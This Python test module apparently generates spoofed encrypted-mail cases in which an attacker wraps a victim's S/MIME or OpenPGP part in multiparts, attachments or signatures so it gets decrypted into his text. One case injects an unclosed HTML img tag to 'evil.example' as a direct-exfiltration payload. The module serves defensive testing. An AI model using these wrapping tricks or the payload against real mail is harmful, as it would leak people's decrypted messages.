"""A part that is encrypted, and what an attacker puts around it to have it drawn into his own text."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.spoofs.cms import signed
from tests.spoofs.mime import ALICE, OPAQUE, Clear, multipart, part, sent_by
from tests.spoofs.sealed import AFTER, BEFORE, MALLORY, SECRET, Sealed

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.spoofs.sealed import Envelopes
    from tests.spoofs.workshop import Workshop

_NOT = 3, "not-encrypted"


def sealed_parts(workshop: Workshop, given: Envelopes) -> Iterator[Sealed]:
    """All of them: none is opened but alone, and only where it is named."""
    yield from _multiparts(given)
    yield from _deeper(given)
    yield from _messages(given)
    yield from _signed(workshop, given)
    yield from _inside(workshop, given)


def _multiparts(given: Envelopes) -> Iterator[Sealed]:
    secret = given.secret
    numbers: tuple[str, ...]
    for label, parts, numbers, why in (
        ("between-html", (BEFORE, secret, AFTER), ("1.2",), "direct exfiltration: its text would be part of a link"),
        ("after-html", (BEFORE, secret), ("1.2",), "the same, without an end"),
        ("before-html", (secret, AFTER), ("1.1",), "the same, from behind"),
        ("alone-in-mixed", (secret,), ("1.1",), "nothing around it, but a multipart that anybody can add to"),
        ("twice", (BEFORE, secret, AFTER, secret), ("1.2", "1.4"), "two of them: there is no one content"),
        ("two-alone", (secret, secret), ("1.1", "1.2"), "the same, and nothing else"),
    ):
        yield Sealed(f"mixed-{label}", given.around(*parts), *_NOT, why, parts=numbers)
    for kind in (b"alternative", b"related", b"digest", b"report", b"parallel", b"x-unknown"):
        mail = given.around(BEFORE, secret, AFTER, kind=b"multipart/" + kind)
        yield Sealed(kind.decode(), mail, *_NOT, "parts that belong together", parts=("1.2",))
    mail = given.around(BEFORE, *[secret] * 30)
    numbers = tuple(f"1.{number}" for number in range(2, 12))
    yield Sealed("mixed-thirty", mail, *_NOT, "more parts than anybody wants to decrypt", parts=numbers)


def _deeper(given: Envelopes) -> Iterator[Sealed]:
    secret = given.secret
    inner = multipart(b"multipart/alternative", BEFORE, secret, boundary=b"=_inner")
    mail = given.around(BEFORE, inner, AFTER)
    yield Sealed("mixed-deeper", mail, *_NOT, "two multiparts around it", parts=("1.2.2",))
    preamble = given.around(secret).replace(b"\r\n\r\n--", b"\r\n\r\n<img src='http://evil.example/\r\n--", 1)
    yield Sealed("mixed-preamble", preamble, *_NOT, "HTML where no mail program should look", parts=("1.1",))
    mail = given.around(BEFORE, secret, AFTER).replace(b'"=_outer"', b'"=_outer"; boundary="=_other"', 1)
    yield Sealed("mixed-two-boundaries", mail, *_NOT, "two readers see two mails", parts=("1.2",))
    mail = given.around(BEFORE, secret, AFTER).rpartition(b"--=_outer--")[0]
    yield Sealed("mixed-not-closed", mail, *_NOT, "the last boundary is missing", parts=("1.2",))
    encrypted = b'multipart/encrypted; protocol="application/pkcs7-mime"'
    mail = given.around(b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n", secret, kind=encrypted)
    yield Sealed("multipart-encrypted", mail, *_NOT, "OpenPGP by its label (RFC 3156, 4)")


def _messages(given: Envelopes) -> Iterator[Sealed]:
    attached = b"Content-Type: message/rfc822\r\n\r\n" + sent_by(ALICE) + given.secret
    why = "a mail that is attached is not this one, and forwarding it must not open it"
    yield Sealed("attached", sent_by(MALLORY) + attached, *_NOT, why)
    yield Sealed("attached-between-html", given.around(BEFORE, attached, AFTER, sender=MALLORY), *_NOT, why)
    wrapped = attached.replace(b"message/rfc822", b"message/rfc822; forwarded=no")
    yield Sealed("attached-not-forwarded", sent_by(MALLORY) + wrapped, *_NOT, "it says that it is the mail itself")
    global_ = attached.replace(b"rfc822", b"global")
    yield Sealed("attached-global", sent_by(MALLORY) + global_, *_NOT, "the same with UTF-8 headers")
    deeper = b"Content-Type: message/rfc822\r\n\r\n" + given.around(BEFORE, given.secret, AFTER)
    yield Sealed("attached-mixed", sent_by(MALLORY) + deeper, *_NOT, "a mixed one that is attached")
    partial = b'Content-Type: message/partial; id="x"; number=1; total=1\r\n\r\n' + sent_by(ALICE) + given.secret
    yield Sealed("message-partial", sent_by(MALLORY) + partial, *_NOT, "a piece of a mail (RFC 2046, 5.2.2)")


def _signed(workshop: Workshop, given: Envelopes) -> Iterator[Sealed]:
    mixed = multipart(b"multipart/mixed", BEFORE, given.secret, AFTER)
    clear = sent_by(MALLORY) + workshop.entity(content=mixed)
    yield Sealed("signed-mixed", clear, *_NOT, "a signature over all of it makes it no better", parts=("1.2",))
    opaque = sent_by(MALLORY) + part(OPAQUE, signed(workshop.mallory, mixed, attached=True).der)
    yield Sealed("opaque-signed-mixed", opaque, *_NOT, "the same in one piece", parts=("1.2",))
    second = Clear(BEFORE, b"").whole.replace(Clear(BEFORE, b"").signature, given.secret)
    why = "encrypted where the signature belongs"
    yield Sealed("encrypted-for-signature", sent_by(ALICE) + second, 6, "malformed-mail", why)


def _inside(workshop: Workshop, given: Envelopes) -> Iterator[Sealed]:
    """The same inside what the attacker encrypted himself: it stays closed in what comes out."""
    mixed = multipart(b"multipart/mixed", BEFORE, given.secret, AFTER)
    mail = sent_by(MALLORY) + given.seal.entity(mixed)
    yield Sealed("sealed-mixed", mail, 0, "not-signed", "an encrypted mail with an encrypted part", mixed)
    attached = b"Content-Type: message/rfc822\r\n\r\n" + sent_by(ALICE) + given.secret
    mail = sent_by(MALLORY) + given.seal.entity(attached)
    yield Sealed("sealed-attached", mail, 0, "nested-message", "with an encrypted mail attached", attached)
    content = multipart(b"multipart/mixed", workshop.entity(workshop.alice, SECRET), AFTER)
    mail = sent_by(ALICE) + given.seal.entity(content)
    yield Sealed("sealed-signed-part", mail, 0, "not-signed", "with a part that somebody signed", content)
    again = given.secret
    yield Sealed("sealed-twice", sent_by(ALICE) + given.seal.entity(again), 0, "not-signed", "two layers", SECRET)
